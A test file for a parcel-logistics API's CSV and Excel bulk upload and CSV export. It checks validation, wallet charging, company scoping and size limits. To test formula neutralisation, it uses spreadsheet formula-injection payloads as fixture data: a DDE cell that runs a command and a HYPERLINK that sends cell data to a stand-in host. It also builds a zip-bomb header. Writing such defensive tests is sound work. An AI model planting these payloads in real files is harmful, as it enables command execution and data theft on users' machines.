import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { deliveryRate, packagePricing, pkg, wallet } from '../../server/db/schema/index';
import { append, ensureWallet } from '../../server/services/money/wallets';
import { csvSafe } from '../../shared/csvSafe';
import type { Package } from '../../shared/schemas/package';
import { makeApp, type TestApp } from '../helpers/app';
import { seedGeo } from './package-fixtures';

type Report = {
  row: number;
  hawb: string | null;
  status: 'created' | 'rejected';
  id: number | null;
  errors: { path: string; message: string }[];
};
type UploadOk = { success: boolean; created: number; rejected: number; report: Report[] };
type UploadRefused = { code: string; message: string; details: { created: number; rejected: number; report: Report[] } };

const form = (content: string | Uint8Array<ArrayBuffer>, name: string, extra: Record<string, string> = {}) => {
  const f = new FormData();
  f.append('file', new File([content], name));
  for (const [k, v] of Object.entries(extra)) f.append(k, v);
  return f;
};
const upload = <T>(t: TestApp, path: string, token: string, body: FormData) => t.json<T>('POST', path, token, body);
const countPackages = async (t: TestApp) =>
  (
    await t.db
      .select({ n: sql<number>`count(*)` })
      .from(pkg)
      .get()
  )?.n ?? 0;

/** A shipper whose prepaid wallet holds `cents`; the default card charges 800 cents plus 150 per started kilogram (950 for 1 kg). */
async function prepaidShipper(cents: number) {
  const t = await makeApp();
  const shipper = await t.login('company');
  const co = (await t.db.query.user.findFirst({ where: (u, { eq }) => eq(u.id, shipper.id) }))?.company_id ?? 0;
  await t.db.insert(deliveryRate).values({ base_cents: 800, per_unit_cents: 150, currency: 'AUD', created_at: 1, updated_at: 1 }).run();
  const w = await ensureWallet(t.app.deps, co);
  await append(t.app.deps, w.id, { kind: 'recharge', amount_cents: cents });
  return { t, shipper };
}

async function xlsx(rows: unknown[][]): Promise<Uint8Array<ArrayBuffer>> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Packages');
  for (const r of rows) ws.addRow(r);
  return new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

/** A zip whose central directory declares one entry of `size` bytes: what a zip bomb looks like before inflating. */
function zipDeclaring(size: number): Uint8Array<ArrayBuffer> {
  const b = new Uint8Array(30 + 46 + 22);
  const v = new DataView(b.buffer);
  v.setUint32(0, 0x04034b50, true);
  v.setUint32(30, 0x02014b50, true);
  v.setUint32(30 + 24, size, true);
  v.setUint32(76, 0x06054b50, true);
  v.setUint16(76 + 10, 1, true);
  v.setUint32(76 + 16, 30, true);
  return b;
}

describe('csvSafe', () => {
  it('neutralises text a spreadsheet would run, and leaves numbers and plain text alone', () => {
    expect(['=1+1', '+1', '-1', '@A1', '\tx', '\rx'].map(csvSafe)).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx"]);
    expect([-5, 2.5, true, null, undefined, 'Ada', ' =x', 'a=b'].map(csvSafe)).toEqual(['-5', '2.5', 'true', '', '', 'Ada', ' =x', 'a=b']);
  });
});

describe('package uploads (CSV and Excel)', () => {
  it('CSV: all or nothing by default, partial on request, duplicates and bad cells rejected with a per-row report', async () => {
    const t = await makeApp();
    const geo = await seedGeo(t.db);
    const admin = await t.login('admin');
    await t.json('POST', '/api/package/', admin.token, { hawb: 'EXISTS-1' });
    const csv = [
      'HAWB,Customer Name,weight,suburb,sac,delivery_date,status,company_name',
      `UP-1,Ada,1.5,${geo.sydney},yes,2030-01-02,delivered,ignored`,
      'UP-2,"Bob, Jr",heavy,,,,,',
      'UP-1,Dup,1,,,,,',
      'EXISTS-1,Old,1,,,,,',
      ',No hawb,1,,,,,',
      '',
      'UP-3,"=cmd|\' /C calc\'!A0",2,,no,,,',
    ].join('\r\n');
    const before = await countPackages(t);

    const refused = await upload<UploadRefused>(t, '/api/package/bulk-upload/', admin.token, form(csv, 'p.csv'));
    expect(refused.status).toBe(400);
    expect(refused.body.code).toBe('validation_error');
    expect(refused.body.details).toMatchObject({ created: 0, rejected: 4 });
    const byRow = new Map(refused.body.details.report.map((r) => [r.row, r]));
    expect(byRow.get(3)?.errors[0].path).toBe('weight');
    expect(byRow.get(4)?.errors[0].message).toContain('duplicate of row 2');
    expect(byRow.get(5)?.errors[0].message).toContain('already exists');
    expect(byRow.get(6)?.hawb).toBeNull();
    expect(await countPackages(t)).toBe(before);

    const partial = await upload<UploadOk>(t, '/api/package/bulk-upload/?partial=true', admin.token, form(csv, 'p.csv'));
    expect(partial.status).toBe(200);
    expect(partial.body).toMatchObject({ success: true, created: 2, rejected: 4 });
    const created = partial.body.report.filter((r) => r.status === 'created');
    expect(created.map((r) => [r.row, r.hawb])).toEqual([
      [2, 'UP-1'],
      [8, 'UP-3'],
    ]);
    const first = await t.json<Package>('GET', `/api/package/${created[0].id}/`, admin.token);
    expect(first.body).toMatchObject({
      hawb: 'UP-1',
      customer_name: 'Ada',
      weight: 1.5,
      sac: true,
      delivery_date: '2030-01-02',
      status: 'created',
      zone: geo.north,
    });
    expect(await countPackages(t)).toBe(before + 2);

    // Same file again: every row is now a duplicate of the database.
    const again = await upload<UploadRefused>(t, '/api/package/bulk-upload/?partial=true', admin.token, form(csv, 'p.csv'));
    expect(again.body).toMatchObject({ created: 0, rejected: 6 });
  });

  it('CSV: refuses unusable files before reading rows', async () => {
    const t = await makeApp();
    const admin = await t.login('admin');
    const driver = await t.login('driver');
    const path = '/api/package/bulk-upload/';
    expect((await upload(t, path, driver.token, form('hawb\nX1', 'p.csv'))).status).toBe(403);
    const unknown = await upload<{ message: string }>(t, path, admin.token, form('hawb,colour\nX1,red', 'p.csv'));
    expect(unknown.status).toBe(400);
    expect(unknown.body.message).toContain('colour');
    expect((await upload(t, path, admin.token, form('customer_name\nAda', 'p.csv'))).status).toBe(400);
    expect((await upload(t, path, admin.token, form('hawb\n', 'p.csv'))).status).toBe(400);
    expect((await upload(t, path, admin.token, form('', 'p.csv'))).status).toBe(400);
    expect((await upload(t, path, admin.token, form('hawb\n"X1', 'p.csv'))).status).toBe(400);
    expect((await upload(t, path, admin.token, form(new Uint8Array([0x68, 0, 0xff, 0xfe]), 'p.csv'))).status).toBe(415);
    expect((await upload(t, path, admin.token, form(await xlsx([['hawb'], ['X1']]), 'p.csv'))).status).toBe(415);
    const noFile = new FormData();
    noFile.append('company', '1');
    expect((await upload(t, path, admin.token, noFile)).status).toBe(400);
    expect((await t.json('POST', path, admin.token, { file: 'hawb\nX1' })).status).toBe(415);

    const big = new Uint8Array(10 * 1024 * 1024 + 1).fill(0x61);
    expect((await upload(t, path, admin.token, form(big, 'big.csv'))).status).toBe(413);
    const long = `hawb\n${Array.from({ length: 50_001 }, (_, i) => `L${i}`).join('\n')}`;
    expect((await upload(t, path, admin.token, form(long, 'long.csv'))).status).toBe(413);
    expect(await countPackages(t)).toBe(0);
  });

  it('a company uploads only for itself', async () => {
    const t = await makeApp();
    const shipper = await t.login('company');
    const own = (await t.db.query.user.findFirst({ where: (u, { eq }) => eq(u.id, shipper.id) }))?.company_id;
    const rivalCompany = await t.company('Rival');
    const csv = `hawb,company\nCO-1,\nCO-2,${rivalCompany}\n`;
    const refused = await upload<UploadRefused>(t, '/api/package/bulk-upload/', shipper.token, form(csv, 'c.csv'));
    expect(refused.status).toBe(400);
    expect(refused.body.details.report[0]).toMatchObject({ row: 3, errors: [{ path: 'company' }] });
    expect(
      (await upload(t, '/api/package/bulk-upload/', shipper.token, form('hawb\nCO-3', 'c.csv', { company: String(rivalCompany) }))).status,
    ).toBe(403);
    const ok = await upload<UploadOk>(t, '/api/package/bulk-upload/?partial=true', shipper.token, form(csv, 'c.csv'));
    expect(ok.body.created).toBe(1);
    const list = await t.json<{ results: Package[] }>('GET', '/api/package/', shipper.token);
    expect(list.body.results.map((p) => p.hawb)).toEqual(['CO-1']);
    expect(list.body.results[0].company).toBe(own);
  });

  it('charges each uploaded parcel like a single create; a row the prepaid wallet cannot pay is rejected', async () => {
    const { t, shipper } = await prepaidShipper(2000);
    const balance = async () => (await t.db.select().from(wallet).get())?.balance_cents;
    const csv = 'hawb,weight\nPAY-1,1\nPAY-2,1\nPAY-3,1\n';

    const refused = await upload<UploadRefused>(t, '/api/package/bulk-upload/', shipper.token, form(csv, 'w.csv'));
    expect(refused.status).toBe(400);
    expect(refused.body.details.report).toMatchObject([{ row: 4, hawb: 'PAY-3', status: 'rejected', errors: [{ path: 'wallet' }] }]);
    expect(await countPackages(t)).toBe(0);
    expect(await balance()).toBe(2000);

    const partial = await upload<UploadOk>(t, '/api/package/bulk-upload/?partial=true', shipper.token, form(csv, 'w.csv'));
    expect(partial.body).toMatchObject({ created: 2, rejected: 1 });
    expect(await balance()).toBe(100);
    const made = await t.json<Package>('GET', `/api/package/${partial.body.report[0].id}/`, shipper.token);
    expect(made.body.price).toBe(9.5);
  });

  it('250 rows go in by the hundred: each report row names its own parcel, the charges follow the file order and stop where the wallet does', async () => {
    // Enough for 160 parcels, so the wallet runs out inside the second hundred.
    const { t, shipper } = await prepaidShipper(950 * 160);
    const lines = ['hawb,customer_name,weight'];
    for (let i = 0; i < 250; i++) lines.push(`CH-${String(i).padStart(3, '0')},Receiver ${i},1`);

    const res = await upload<UploadOk>(t, '/api/package/bulk-upload/?partial=true', shipper.token, form(lines.join('\n'), 'chunks.csv'));
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ created: 160, rejected: 90 });
    const report = res.body.report;
    expect(report.slice(0, 160).every((r) => r.status === 'created' && r.id != null)).toBe(true);
    expect(report.slice(160).every((r) => r.status === 'rejected' && r.id === null && r.errors[0]?.path === 'wallet')).toBe(true);
    expect((await t.db.select().from(wallet).get())?.balance_cents).toBe(0);
    expect(await countPackages(t)).toBe(160);
    // The id each row reports is the parcel with that row's hawb and receiver, across the chunk boundary too.
    for (const r of [report[0]!, report[99]!, report[100]!, report[159]!]) {
      const made = await t.json<Package>('GET', `/api/package/${r.id}/`, shipper.token);
      expect(made.body).toMatchObject({ hawb: r.hawb, customer_name: `Receiver ${Number(r.hawb!.slice(3))}`, price: 9.5 });
    }
    const rows = await t.db.select({ id: pkg.id, hawb: pkg.hawb }).from(pkg).all();
    expect(new Map(rows.map((p) => [p.hawb, p.id]))).toEqual(new Map(report.slice(0, 160).map((r) => [r.hawb, r.id])));
    // Each parcel kept has its pricing state, written a chunk at a time; the refused ones have none.
    const states = await t.db.select().from(packagePricing).all();
    expect(states.map((s) => s.package_id).sort((a, b) => a - b)).toEqual(rows.map((p) => p.id).sort((a, b) => a - b));
    expect(states.every((s) => s.state === 'priced' && s.price_cents === 950)).toBe(true);
  });

  it('Excel: typed cells, all or nothing, partial, and a checked file type', async () => {
    const t = await makeApp();
    const admin = await t.login('admin');
    const co = await t.company('Shipper');
    const rows = [
      ['hawb', 'customer_name', 'weight', 'sac', 'delivery_date', 'customer_phone'],
      [12345, { richText: [{ text: 'Ada ' }, { text: 'Lovelace' }] }, 2, true, new Date(Date.UTC(2030, 0, 2)), 400111222],
      ['XL-2', 'Bob', { formula: '1+1', result: 2 }, 'no', null, null],
      ['XL-3', 'Bad', 'heavy', null, null, null],
    ];
    const path = '/api/package/excel-upload/';
    const refused = await upload<UploadRefused>(t, path, admin.token, form(await xlsx(rows), 'p.xlsx', { company: String(co) }));
    expect(refused.status).toBe(400);
    expect(refused.body.details.report.map((r) => r.row)).toEqual([4]);
    expect(await countPackages(t)).toBe(0);

    const ok = await upload<UploadOk>(t, `${path}?partial=true`, admin.token, form(await xlsx(rows), 'p.xlsx', { company: String(co) }));
    expect(ok.status).toBe(200);
    expect(ok.body).toMatchObject({ created: 2, rejected: 1 });
    const first = await t.json<Package>('GET', `/api/package/${ok.body.report[0].id}/`, admin.token);
    // A phone typed as a number (Excel drops the leading 0) is stored in international form (issue 36).
    expect(first.body).toMatchObject({
      hawb: '12345',
      customer_name: 'Ada Lovelace',
      weight: 2,
      sac: true,
      delivery_date: '2030-01-02',
      customer_phone: '+61400111222',
      company: co,
    });
    expect((await t.json<Package>('GET', `/api/package/${ok.body.report[1].id}/`, admin.token)).body.weight).toBe(2);

    expect((await upload(t, path, admin.token, form('hawb\nX1', 'fake.xlsx'))).status).toBe(415);
    const notXlsx = new Uint8Array([0x50, 0x4b, 0x03, 0x04, 1, 2, 3, 4, 5, 6]);
    expect((await upload(t, path, admin.token, form(notXlsx, 'broken.xlsx'))).status).toBe(400);
    expect((await upload(t, path, admin.token, form(zipDeclaring(300 * 1024 * 1024), 'bomb.xlsx'))).status).toBe(413);
  });

  it('imports 1,000 rows in one call and streams them back as formula-safe CSV, scoped to the caller', async () => {
    const t = await makeApp();
    const shipper = await t.login('company');
    const rival = await t.login('company');
    const admin = await t.login('admin');
    const lines = ['hawb,customer_name,weight'];
    for (let i = 1; i <= 1000; i += 1) lines.push(`BULK-${String(i).padStart(4, '0')},Customer ${i},${(i % 20) + 0.5}`);
    const res = await upload<UploadOk>(t, '/api/package/bulk-upload/', shipper.token, form(lines.join('\n'), 'bulk.csv'));
    expect(res.status).toBe(200);
    expect(res.body.created).toBe(1000);
    expect(res.body.report.every((r) => r.status === 'created' && r.id != null)).toBe(true);

    // Cells a spreadsheet would run as formulas come back neutralised.
    for (const [hawb, name] of [
      ['EVIL-1', '=HYPERLINK("http://x.test/?"&A1,"click")'],
      ['EVIL-2', '+1+2'],
      ['EVIL-3', '@SUM(A1)'],
      ['EVIL-4', '-2+3'],
    ]) {
      expect((await t.json('POST', '/api/package/', shipper.token, { hawb, customer_name: name })).status).toBe(201);
    }

    const download = await t.call('GET', '/api/package/csv-download/', shipper.token);
    expect(download.status).toBe(200);
    expect(download.headers.get('content-type')).toContain('text/csv');
    expect(download.headers.get('content-disposition')).toMatch(/^attachment; filename="packages-\d{4}-\d{2}-\d{2}\.csv"$/);
    const records = parse(await download.text(), { bom: true, columns: true }) as Record<string, string>[];
    expect(records.length).toBe(1004);
    expect(records[0]).toMatchObject({ hawb: 'BULK-0001', customer_name: 'Customer 1', weight: '1.5', status: 'created', landed: 'false' });
    const evil = new Map(records.filter((r) => r.hawb.startsWith('EVIL')).map((r) => [r.hawb, r.customer_name]));
    expect(evil.get('EVIL-1')).toBe('\'=HYPERLINK("http://x.test/?"&A1,"click")');
    expect(evil.get('EVIL-2')).toBe("'+1+2");
    expect(evil.get('EVIL-3')).toBe("'@SUM(A1)");
    expect(evil.get('EVIL-4')).toBe("'-2+3");

    // The list's filters apply; another company gets only the header.
    const filtered = parse(await (await t.call('GET', '/api/package/csv-download/?search=EVIL', admin.token)).text(), {
      bom: true,
      columns: true,
    }) as unknown[];
    expect(filtered.length).toBe(4);
    const theirs = await (await t.call('GET', '/api/package/csv-download/', rival.token)).text();
    expect(theirs.trim().split('\n').length).toBe(1);
    expect((await t.call('GET', '/api/package/csv-download/?zone=abc', admin.token)).status).toBe(400);
    expect((await t.call('GET', '/api/package/csv-download/', null)).status).toBe(401);
  });
});
